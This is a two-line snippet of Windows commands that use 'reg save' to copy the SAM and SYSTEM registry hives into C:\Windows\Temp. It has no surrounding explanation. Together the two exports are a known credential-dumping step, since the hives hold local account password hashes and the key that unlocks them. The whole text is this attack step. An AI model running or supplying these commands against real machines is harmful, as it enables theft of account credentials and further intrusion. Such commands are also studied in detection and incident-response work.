reg save HKLM\SAM C:\Windows\Temp\s.hiv
reg save HKLM\SYSTEM C:\Windows\Temp\y.hiv
